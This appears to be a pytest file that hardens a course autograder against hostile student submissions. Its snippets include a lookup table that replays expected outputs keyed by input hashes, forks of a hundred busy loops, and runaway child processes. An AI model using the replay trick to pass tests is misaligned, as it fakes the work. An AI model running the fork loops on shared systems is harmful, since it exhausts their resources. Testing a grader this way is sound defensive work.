        _, expected = read_bundle(course_copy.expected / COMPONENT, path.stem)
        calls = (
            {"out": inputs["dim"]} if "dim" in inputs else {f"dim{d}": d for d in inputs["dims"]}
        )
        for name, dim in calls.items():
            key = hashlib.sha256(inputs["x"].numpy().tobytes()).hexdigest() + str(dim)
            table[key] = base64.b64encode(save({"out": expected[name].contiguous()})).decode()
    snippet = f"""
import base64, hashlib
from safetensors.torch import load as _load
_TABLE = {table!r}
def run_softmax(in_features, dim):
    key = hashlib.sha256(in_features.numpy().tobytes()).hexdigest() + str(dim)
    return _load(base64.b64decode(_TABLE[key]))["out"]
"""
    zip_path = with_attack(bases["bare"], tmp_path / "replay.zip", snippet)
    report = grade(zip_path, tmp_path / "out", rubric=rubric, course=course_copy, quiet=True)
    output = report["tests"][0]["output"]
    assert "2/2 public cases passed" in output, output
    assert report["score"] == 0.0, output


def test_busy_neighbours_cost_no_points(bases: dict[str, Path], tmp_path: Path) -> None:
    """One component's hidden run starts a hundred busy loops; the other keeps its full marks:
    the shared hidden sandbox is stopped at its CPU limit, and each component runs again
    alone, side by side (limits count CPU time, and each sandbox is a scheduling group of its
    own)."""
    rubric = tmp_path / "rubric.toml"
    rubric.write_text(
        "[limits]\ncpu_s = 15\nwall_s = 120\nprocesses = 200\n\n"
        '[[component]]\nname = "silu"\npoints = 1\n\n[[component]]\nname = "softmax"\npoints = 1\n'
    )
    snippet = """
import glob, os, sys
_graded = [a.split("=", 1)[1].split(",") for a in sys.argv if a.startswith("--component=")]
_inputs = [a.split("=", 1)[1] for a in sys.argv if a.startswith("--inputs=")]
_hidden = _inputs and glob.glob(os.path.join(_inputs[0], "*", "*-hidden-*"))
if _graded and "silu" in _graded[0] and _hidden:
    for _ in range(100):
        if os.fork() == 0:
            while True:
                pass
"""
    zip_path = with_attack(bases["reference"], tmp_path / "busy.zip", snippet)
    report = grade(zip_path, tmp_path / "out", rubric=rubric, jobs=2, quiet=True)
    scores = {t["name"]: t for t in report["tests"]}
    assert scores["softmax"]["score"] == 1.0, scores["softmax"]["output"]
    # Stopped by the watchdog: at its CPU limit, or, where the grader cannot read proportional
    # memory (a container's root has no CAP_SYS_PTRACE), at the memory limit, since a hundred
    # forks of a torch process each count their copy-on-write pages.
    silu = scores["silu"]["output"]
    assert "CPU-seconds" in silu or "GiB of memory" in silu, silu


# A student's train_bpe whose pool can never start: the initializer needs a compiled extension
# that was never built, and the pool replaces its dead workers forever.
POOL_THAT_NEVER_STARTS = """
def _load_native():
    import cs336_basics._bpe_native  # noqa: F401  (never built)


def _count(chunk):
    return len(chunk)


def run_train_bpe(input_path, vocab_size, special_tokens, **kwargs):
    import multiprocessing

    with multiprocessing.Pool(initializer=_load_native) as pool:
        pool.map(_count, ["a", "b"])
"""
# Two more runaways: a child that busy-loops and a child that sleeps, each waited for.
RUNAWAY_CHILDREN = """
import os, subprocess, sys


def run_silu(in_features):
    child = os.fork()
    if child == 0:
        while True:
            pass
    os.waitpid(child, 0)


def run_softmax(in_features, dim):
    subprocess.run([sys.executable, "-c", "import time; time.sleep(3600)", "{token}"])
"""


def test_runaway_processes_cost_only_their_components(
    bases: dict[str, Path], host: Host, tmp_path: Path
) -> None:
    """A pool that never starts, a busy child and a sleeping child: each case is stopped at the
    per-case limit, counted over every process it started, with its processes; the import did
    end, so the hidden runs start; the honest component keeps its points; the grading time is
    bounded (a tenth of the limit for a component's cases after its first that hung)."""
    rubric = tmp_path / "rubric.toml"
    rubric.write_text(
        "[limits]\ncase_cpu_s = 2\ncpu_s = 120\nwall_s = 300\nprocesses = 200\n\n"
        + "".join(
            f'[[component]]\nname = "{name}"\npoints = 1\n\n'
            for name in ("train_bpe", "silu", "softmax", "linear")
        )
    )
    snippet = POOL_THAT_NEVER_STARTS + host.fill(RUNAWAY_CHILDREN)
    zip_path = with_attack(bases["reference"], tmp_path / "runaways.zip", snippet)
    started = time.monotonic()
    report = grade(zip_path, tmp_path / "out", rubric=rubric, course=host.course, jobs=2)
    seconds = time.monotonic() - started
    print(f"runaways graded in {seconds:.0f} s")
    tests = {t["name"]: t for t in report["tests"]}
    assert tests["linear"]["score"] == 1.0, tests["linear"]["output"]
    for name in ("train_bpe", "silu", "softmax"):
        assert tests[name]["score"] == 0.0
        assert "ran past its time limit" in tests[name]["output"]
        assert f"FAILED {name}-public-" in tests[name]["output"]
    assert "ran past the per-case limit of 2 CPU-seconds" in tests["silu"]["output"] or (
        "8 s of wall clock" in tests["silu"]["output"]
    )
    assert "a multiprocessing pool" in tests["train_bpe"]["output"], tests["train_bpe"]["output"]
    assert "No hidden case was run" not in report["output"], report["output"]
    assert "train_bpe-public-" in report["output"]  # the cases stopped at the limits, named
    assert seconds < 400
    assert host.leftover_processes() == []


@pytest.mark.skipif(not WANT_HANG, reason="the full rubric: CS336_GRADER_ATTACKS=hang")
def test_a_hanging_train_bpe_costs_only_train_bpe(bases: dict[str, Path], tmp_path: Path) -> None:
    """The reference with only run_train_bpe replaced by a pool that never starts, graded with
    the course's rubric and limits: every other component keeps its points."""
    zip_path = with_attack(bases["reference"], tmp_path / "hang.zip", POOL_THAT_NEVER_STARTS)
    started = time.monotonic()
    report = grade(zip_path, tmp_path / "out", quiet=True)
    print(f"hang zip graded in {time.monotonic() - started:.0f} s: {report['score']:g}")
    tests = {t["name"]: t for t in report["tests"]}  # each component's hidden and public parts
    rubric = load_rubric()
    assert report["score"] == rubric.total - rubric.component("train_bpe").points
    assert tests["train_bpe: hidden cases"]["score"] == 0.0
    public = tests["train_bpe: public cases (feedback, no points)"]["output"]
    assert "a multiprocessing pool" in public, public
    assert "No hidden case was run" not in report["output"], report["output"]


def test_no_note_crosses_between_the_sandboxes_of_a_grading(
    bases: dict[str, Path], host: Host, tmp_path: Path
) -> None:
    """Two components graded two at a time: no run finds a note of another (a hidden run that
    did would fail its cases, a public one would raise it), and nothing is left behind."""
    rubric = tmp_path / "rubric.toml"
    rubric.write_text(
        "[limits]\nwall_s = 120\n\n"
        '[[component]]\nname = "silu"\npoints = 1\n\n[[component]]\nname = "softmax"\npoints = 1\n'
    )
    snippet = host.fill(textwrap.dedent(ATTACKS["notes_between_runs"]))
    zip_path = with_attack(bases["reference"], tmp_path / "notes.zip", snippet)
    for attempt in ("first", "second"):  # the second grading looks for the first's notes
        report = grade(zip_path, tmp_path / attempt, rubric=rubric, course=host.course, jobs=2)
        text = json.dumps(report)
        assert "LEAK" not in text and "wall-clock" not in text, text[:3000]
        assert report["score"] == 2.0, report["tests"]
    assert leftover_files(host.token) == []
    assert host.leftover_processes() == []
